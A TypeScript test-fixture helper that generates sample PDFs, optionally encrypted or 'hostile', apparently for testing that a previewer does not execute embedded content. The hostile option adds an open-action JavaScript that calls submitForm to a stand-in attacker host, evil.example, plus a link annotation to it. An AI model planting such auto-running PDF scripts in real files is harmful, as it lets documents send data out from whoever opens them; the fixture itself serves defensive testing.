import type { SampleFile } from './sample-pictures.ts';

/** What a hostile file would do if it were not only drawn. */
const SCRIPT = 'app.alert("run"); this.submitForm("https://evil.example/"); globalThis.document.title = "run";';

interface PdfOptions {
  pages?: number;
  /** Runs a script when it is opened and links to another site. */
  isHostile?: boolean;
  /** Needs a password. */
  isEncrypted?: boolean;
}

/** Writes a PDF whose pages are filled with red. */
export function makePdf(
  name: string,
  { pages = 1, isHostile = false, isEncrypted = false }: PdfOptions = {},
): SampleFile {
  const content = '1 0 0 rg 0 0 300 400 re f';
  const action = `<< /S /JavaScript /JS (${SCRIPT.replaceAll(/[()\\]/g, String.raw`\$&`)}) >>`;
  const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /URI /URI (https://evil.example/) >> >>';
  const kids = Array.from({ length: pages }, (_, n) => `${4 + n} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${isHostile ? `/OpenAction ${action}` : ''} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ...Array.from(
      { length: pages },
      () =>
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 3 0 R ${isHostile ? `/Annots [${link}] /AA << /O ${action} >>` : ''} >>`,
    ),
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((body, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return String(at).padStart(10, '0');
  });
  const start = text.length;
  const key = 'ab'.repeat(32);
  const locked = isEncrypted
    ? `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${key}> /U <${key}> /P -4 >> /ID [<${key}> <${key}>]`
    : '';
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((at) => `${at} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${locked} >>\nstartxref\n${start}\n%%EOF`;
  return { name, mimeType: 'application/pdf', buffer: Buffer.from(text, 'latin1') };
}
